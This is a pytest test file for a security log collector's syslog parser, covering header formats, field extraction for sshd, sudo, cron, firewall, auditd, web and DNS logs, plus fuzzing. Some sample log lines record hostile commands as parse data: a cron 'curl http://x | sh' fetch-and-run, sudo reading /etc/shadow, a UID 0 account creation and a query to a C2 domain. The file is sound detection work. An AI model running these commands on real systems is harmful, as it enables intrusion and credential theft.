# ruff: noqa: E501 - tables of raw log lines
"""Syslog headers in every form met in the field, and what the programs behind them say."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors.parsers import PARSERS
from collectors.parsers.clock import Clock
from collectors.parsers.syslog_header import split
from kernel.errors import ParseError
from kernel.event import Event, conform
from kernel.record import RawRecord

RECEIVED = int(datetime(2026, 11, 23, 4, 0, tzinfo=UTC).timestamp()) * 1_000_000


def parse(raw: str | bytes, received: int = RECEIVED) -> Event:
    body = raw if isinstance(raw, bytes) else raw.encode()
    return conform(PARSERS["syslog"](RawRecord("test", "syslog", received, "test", body))[0], received, {})


@pytest.mark.parametrize(
    ("raw", "host", "app", "procid", "stamp"),
    [
        ("<34>Oct 11 22:14:15 mymachine su: 'su root' failed", "mymachine", "su", "", "2026-10-11T22:14:15"),
        ("<34>1 2003-10-11T22:14:15.003Z m.example.com su - ID47 - text", "m.example.com", "su", "", "2003-10-11T22:14:15.003"),
        (
            "<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - - text",
            "192.0.2.1",
            "myproc",
            "8710",
            "2003-08-24T12:14:15.000003",
        ),
        ("Nov 22 08:00:00 srv sshd[12]: text", "srv", "sshd", "12", "2026-11-22T08:00:00"),
        ("<13>Nov 22 2026 08:00:00 srv app: text", "srv", "app", "", "2026-11-22T08:00:00"),
        ("<13>Nov 22 08:00:00 2026 srv app: text", "srv", "app", "", "2026-11-22T08:00:00"),
        ("<13>2026-11-22 08:00:00 srv app: text", "srv", "app", "", "2026-11-22T08:00:00"),
        ("<13>2026-11-22T08:00:00.5+08:00 srv app[1]: text", "srv", "app", "1", "2026-11-22T00:00:00.5"),
        ("<13>Nov 22 08:00:00 app[7]: text", None, "app", "7", "2026-11-22T08:00:00"),
        ("<13>app[7]: text", None, "app", "7", None),
        ("<13> Nov  2 08:00:00 2001:db8::9 app: text", "2001:db8::9", "app", "", "2026-11-02T08:00:00"),
        ("\ufeff<13>Nov 22 08:00:00 srv app: text\r\n\0", "srv", "app", "", "2026-11-22T08:00:00"),
        ("<13>Dec 31 23:59:59 srv app: text", "srv", "app", "", "2025-12-31T23:59:59"),
    ],
)
def test_header_forms(raw: str, host: str | None, app: str, procid: str, stamp: str | None) -> None:
    event = parse(raw)
    assert event.get("host.name") == host
    assert event.get("log.syslog.appname") == app
    assert event.get("log.syslog.procid") == (procid or None)
    assert event["@timestamp"].startswith(stamp or "2026-11-23T04:00:00")
    assert event["message"].endswith(("text", "failed"))


def test_priority_is_facility_and_severity() -> None:
    event = parse("<165>Nov 22 08:00:00 srv app: text")
    assert (event["log.syslog.facility.code"], event["log.syslog.facility.name"]) == (20, "local4")
    assert (event["log.syslog.severity.code"], event["log.syslog.severity.name"]) == (5, "notice")


def test_a_priority_above_191_is_text() -> None:
    event = parse("<999>Nov 22 08:00:00 srv app: text")
    assert "log.syslog.priority" not in event
    assert event["message"].startswith("<999>")


def test_structured_data_with_escapes() -> None:
    event = parse(r'<165>1 2003-10-11T22:14:15.003Z h a - ID [ex@1 iut="3" s="a\"b\]c"][two@1 k="v"] BOM text')
    assert event["log.syslog.structured_data.ex@1.iut"] == "3"
    assert event["log.syslog.structured_data.ex@1.s"] == 'a"b]c'
    assert event["log.syslog.structured_data.two@1.k"] == "v"
    assert event["message"] == "BOM text"


def test_zone_of_stamps_without_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Clock, "zone", ZoneInfo("Asia/Shanghai"))
    assert parse("<13>Nov 22 08:00:00 srv app: text")["@timestamp"] == "2026-11-22T00:00:00.000000Z"
    assert parse("<13>2026-11-22T08:00:00Z srv app: text")["@timestamp"] == "2026-11-22T08:00:00.000000Z"


def test_gbk_bytes_are_read_as_gb18030() -> None:
    event = parse("<13>Nov 22 08:00:00 srv app: 登录失败".encode("gbk"))
    assert event["message"] == "登录失败"


def test_clock_of_1970_and_2099_is_not_believed() -> None:
    for claimed in ("1970-01-01T00:00:05Z", "2099-01-01T00:00:00Z"):
        event = parse(f"<13>1 {claimed} srv app - - - text")
        assert event["@timestamp"] == "2026-11-23T04:00:00.000000Z"
        assert event["labels.claimed_timestamp"].startswith(claimed[:19])
        assert "clock-suspect" in event["tags"]


def test_empty_message_is_refused() -> None:
    with pytest.raises(ParseError, match="empty syslog message at test"):
        parse(b" \r\n\0")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("sshd[1]: Accepted publickey for ann from 192.0.2.1 port 5022 ssh2: RSA SHA256:x",
         {"event.action": "ssh_login", "event.outcome": "success", "user.name": "ann", "source.ip": "192.0.2.1", "source.port": 5022}),
        ("sshd[1]: Failed password for invalid user oracle from 2001:db8::5 port 5022 ssh2",
         {"event.outcome": "failure", "user.name": "oracle", "source.ip": "2001:db8::5", "network.type": "ipv6"}),
        ("sshd-session[1]: Invalid user x from 198.51.100.1 port 9 from 192.0.2.1 port 22",
         {"user.name": "x from 198.51.100.1 port 9", "source.ip": "192.0.2.1", "process.name": "sshd"}),
        ("sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root",
         {"event.outcome": "failure", "user.name": "root", "source.ip": "192.0.2.1"}),
        ("sshd[1]: pam_unix(sshd:session): session opened for user ann(uid=1000) by (uid=0)",
         {"event.action": "session_opened", "user.name": "ann"}),
        ("sudo:    ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/cat /etc/shadow",
         {"user.name": "ann", "user.effective.name": "root", "process.command_line": "/bin/cat /etc/shadow", "event.outcome": "success"}),
        ("sudo:  bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
         {"user.name": "bob", "event.outcome": "failure", "event.reason": "user NOT in sudoers"}),
        ("su[2]: FAILED SU (to root) ann on pts/0", {"event.outcome": "failure", "user.name": "ann", "user.effective.name": "root"}),
        ("CRON[3]: (root) CMD (curl http://x | sh)", {"user.name": "root", "process.command_line": "curl http://x | sh"}),
        ("useradd[4]: new user: name=mole, UID=0, GID=0, home=/home/mole, shell=/bin/bash",
         {"event.action": "added-user-account", "user.target.name": "mole", "event.category": ["iam"]}),
        ("kernel: [  20.1] [UFW BLOCK] IN=eth0 OUT= MAC=00:08:a2:0c:1f:12:00:c8:8b:e2:d6:87:08:00 SRC=192.0.2.9 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=80 DPT=22 SYN",
         {"event.dataset": "firewall.traffic", "event.action": "deny", "source.ip": "192.0.2.9", "destination.port": 22, "source.mac": "00-C8-8B-E2-D6-87"}),
        ("audispd: type=USER_LOGIN msg=audit(1684329817.579:3): pid=9 uid=0 auid=0 msg='op=login acct=\"root\" addr=192.0.2.4 res=failed'",
         {"event.dataset": "linux.auditd", "event.outcome": "failure", "source.ip": "192.0.2.4", "user.name": "root"}),
        ('nginx: 192.0.2.8 - - [22/Nov/2026:08:00:00 +0800] "GET /a.php?x=1 HTTP/1.1" 404 12 "-" "curl/8"',
         {"event.dataset": "web.access", "url.path": "/a.php", "url.query": "x=1", "http.response.status_code": 404, "event.module": "nginx"}),
        ("CEF: 0|Acme|Wall|1.0|100|worm \\| stopped|10|src=10.0.0.1 dst=2.1.2.2 spt=1232 act=blocked msg=a\\=b",
         {"observer.vendor": "Acme", "rule.name": "worm | stopped", "source.ip": "10.0.0.1", "event.action": "blocked", "message": "a=b"}),
        ("named[5]: client @0x7f 192.0.2.1#3076 (c2.example): query: c2.example IN TXT + (10.0.0.53)",
         {"event.dataset": "dns.query", "dns.question.name": "c2.example", "dns.question.type": "TXT", "source.port": 3076}),
    ],
)  # fmt: skip
def test_programs(text: str, expected: dict[str, object]) -> None:
    event = parse(f"<38>Nov 22 08:00:00 srv {text}")
    assert {field: event.get(field) for field in expected} == expected
    assert event["host.name"] == "srv"


def test_json_payload_wins_over_the_header() -> None:
    event = parse(
        '<13>Nov 22 08:00:00 relay app: {"@timestamp":"2026-11-21T00:00:00Z","event":{"category":"web"},"host":{"name":"inner"}}'
    )
    assert (event["host.name"], event["@timestamp"]) == ("inner", "2026-11-21T00:00:00.000000Z")
    assert event["log.syslog.appname"] == "app"


def test_sysmon_for_linux_as_xml() -> None:
    xml = '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel><Computer>u5</Computer></System><EventData><Data Name="Image">/usr/bin/id</Data><Data Name="CommandLine">id</Data></EventData></Event>'  # fmt: skip
    event = parse(f"<14>Nov 22 08:00:00 u5 sysmon: {xml}")
    assert (event["event.dataset"], event["event.code"], event["process.executable"]) == ("linux.sysmon", "1", "/usr/bin/id")


def test_vendor_messages_of_sc4s_are_all_kept(shared: Path) -> None:
    count = 0
    for file in (shared / "corpora" / "logs" / "sc4s").glob("*.ndjson"):
        for line in file.read_bytes().splitlines():
            raw = orjson.loads(line)["raw"]
            event = parse(raw)
            assert event["event.original"] == raw.strip("\r\n\0 \ufeff")
            count += 1
    assert count > 200


@given(st.binary(max_size=400))
def test_any_bytes_give_an_event_or_a_reason(raw: bytes) -> None:
    try:
        event = parse(raw)
    except ParseError:
        return
    assert event["event.original"]
    assert all(value is not None and not isinstance(value, dict) for value in event.values())


_WORDS = st.sampled_from(
    ["<34>", "<13>1 ", "Nov 22 08:00:00 ", "2026-11-22T08:00:00Z ", "srv ", "sshd[1]: ", "sudo: ", "%%01SEC/4/X(l): ", "%%10ATK/3/Y: ", "id=tos ",
     "type=SYSCALL msg=audit(1.1:2): ", "a=b ", "Key(1003)=;", "IN=e OUT= SRC=x DST=y ", "CEF:0|a|b|c|d|e|f|", "src=1 ", "{", '{"a":[1]}', "<Event>",
     "[x y=\"z\"] ", "Failed password for ", " from ", "1.2.3.4", " port 70000", "\n", '"GET / HTTP/1.1" ', "- ", "🌀", "fwlog: 源IP:x, "]
)  # fmt: skip


@given(st.lists(_WORDS, max_size=12).map("".join))
def test_any_mixture_of_known_pieces_gives_an_event_or_a_reason(text: str) -> None:
    try:
        event = parse(text)
    except ParseError:
        return
    assert isinstance(event["event.dataset"], str)
    assert orjson.dumps(event)


@given(st.text(max_size=200))
def test_header_split_never_fails_and_keeps_the_end_of_the_text(text: str) -> None:
    assert text.endswith(split(text, RECEIVED).text.lstrip(" "))


@pytest.mark.parametrize(
    ("head", "body"),
    [
        ("h %%01SEC/4/POLICYDENY(l): ", "a"),
        ("Nov 22 08:00:00 h fwlog: ", "a="),
        ("Nov 22 08:00:00 h sshd[1]: pam_unix(a:b): ", "1"),
        ("id=tos ", "a"),
        ("h %%10ATK/4/LOGIN: ", "a"),
        ("identity= POLICY: ", "1"),
        ("SASL ", "["),
        ("auth-worker x(", "1"),
        ("Nov 22 08:00:00 h sshd[1]: error: PAM: ", " for user"),
        ("1.1.1.1 - HTTP/", " "),
    ],
)
def test_texts_made_to_stall_are_read_at_once(head: str, body: str) -> None:
    started = time.process_time()
    parse(head + body * (60_000 // len(body)))
    assert time.process_time() - started < 1.0
